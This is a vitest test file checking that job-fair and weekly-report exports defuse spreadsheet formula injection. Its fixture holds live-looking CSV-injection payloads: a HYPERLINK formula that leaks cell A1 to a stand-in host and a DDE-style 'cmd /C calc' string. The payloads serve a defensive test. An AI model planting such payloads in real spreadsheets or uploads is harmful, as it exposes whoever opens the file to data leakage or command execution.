import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { boothWorkbook, employerRows, employerWorkbook, printablePage } from '../../src/fairs/exports';
import type { ShortlistRow } from '../../src/fairs/shortlists';
import { weeklyPage, weeklyWorkbook } from '../../src/reports/weekly-export';

/** Texts from uploaded lists that a spreadsheet would run as formulas once saved as CSV or pasted. */
const row: ShortlistRow = {
  postId: '00000000-0000-4000-8000-000000000001',
  postTitle: '=HYPERLINK("http://x.example/?"&A1,"点击")',
  employerId: '00000000-0000-4000-8000-000000000002',
  employerName: '@SUM(1+1)*cmd|" /C calc"!A0',
  booth: '+A1',
  personId: '00000000-0000-4000-8000-000000000003',
  personName: '-2+3',
  birthYear: 1990,
  education: null,
  skills: ['=1+1'],
  certificates: [],
  availableFrom: null,
  score: 0.8,
  rank: 1,
};

async function strings(file: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(file as unknown as ArrayBuffer);
  const cells: string[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow((r) => {
      r.eachCell((c) => {
        if (typeof c.value === 'string') cells.push(c.value);
        else if (c.value && typeof c.value === 'object')
          cells.push(`<formula or object ${JSON.stringify(c.value)}>`);
      });
    });
  }
  return { names: wb.worksheets.map((w) => w.name), cells };
}

const risky = /^[=+\-@]/;

describe('exports neutralize formula-leading texts', () => {
  it('in employer sheets: cells and sheet names', async () => {
    const file = await employerWorkbook('=cmd 招聘会', employerRows([row], 'k'.repeat(32), new Date()));
    const { names, cells } = await strings(file);
    expect(names[0]).toMatch(/^＠SUM/);
    expect(cells.filter((c) => risky.test(c))).toEqual([]);
    expect(cells).toContain(`'${row.postTitle}`);
    expect(cells).toContain("'=1+1");
  });

  it('in booth lists', async () => {
    const { cells } = await strings(await boothWorkbook('+招聘会', [row]));
    expect(cells.filter((c) => risky.test(c))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(["'+招聘会", "'-2+3", "'+A1"]));
  });

  it('in the printable page (its cells are pasted into spreadsheets)', () => {
    const page = printablePage('t', 'booths', [row], []);
    expect(page).toContain("<td>'-2+3</td>");
    expect(page).not.toMatch(/<td>[=+\-@]/);
  });

  it('in the weekly report', async () => {
    const weekly = [
      {
        regionCode: '433100',
        regionName: '=湘西州',
        newPeople: -1,
        newPosts: 0,
        matches: 0,
        intents: 0,
        placements: 0,
        placementRate: 0,
        target: 0.5,
        topUnmet: { occupationCode: 'x', occupationName: '@焊工', openPlaces: 3 },
      },
    ];
    const { cells } = await strings(await weeklyWorkbook('2026-12-07', '2026-12-13', weekly));
    expect(cells.filter((c) => risky.test(c))).toEqual([]);
    expect(cells).toContain("'=湘西州");
    expect(weeklyPage('2026-12-07', '2026-12-13', weekly)).toContain("<td>'=湘西州</td>");
  });
});
